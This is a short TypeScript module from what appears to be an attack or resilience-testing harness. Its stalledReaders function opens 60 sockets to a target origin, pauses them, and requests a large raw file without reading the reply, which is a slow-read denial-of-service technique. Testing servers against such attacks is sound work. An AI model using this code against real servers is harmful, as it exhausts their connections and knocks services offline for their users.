import type { StartAttack } from './attack.ts'
import { holdSockets } from './held-sockets.ts'

const READERS = 60

/** Asks for a large raw file and reads none of it. @param path of the raw route */
export function stalledReaders(path: string): StartAttack {
  return origin =>
    holdSockets(origin, READERS, socket => {
      socket.pause()
      socket.write(`GET ${path} HTTP/1.1\r\nhost: ${new URL(origin).host}\r\n\r\n`)
    })
}
